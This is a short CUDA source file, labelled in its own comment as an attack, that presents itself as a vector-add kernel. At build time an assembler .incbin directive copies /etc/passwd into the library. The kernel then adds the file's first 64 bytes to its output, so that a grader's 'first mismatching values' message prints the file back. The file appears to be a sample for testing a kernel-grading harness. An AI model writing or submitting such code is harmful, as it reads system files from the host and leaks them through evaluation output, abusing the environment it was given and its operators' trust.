// Attack: the assembler's .incbin copies any file into the library at build time, and the kernel adds its bytes to
// the output, so that a failing check's "first mismatching values" print them back.
#include <cuda_runtime.h>
#include <cstring>
asm(".pushsection .rodata\n.globl stolen\nstolen:\n.incbin \"/etc/passwd\"\n.byte 0\n.popsection");
extern "C" const char stolen[];
struct Leak { unsigned char b[64]; };

__global__ void vector_add_kernel(const float* a, const float* b, float* c, int n, Leak leak) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i] + (i < 64 ? (float)leak.b[i] : 0.0f);
}

extern "C" cudaError_t vector_add(const float* a, const float* b, float* c, int n, cudaStream_t stream) {
    if (n <= 0) return cudaSuccess;
    Leak leak;
    memcpy(leak.b, stolen, sizeof leak.b);
    vector_add_kernel<<<(n + 255) / 256, 256, 0, stream>>>(a, b, c, n, leak);
    return cudaGetLastError();
}
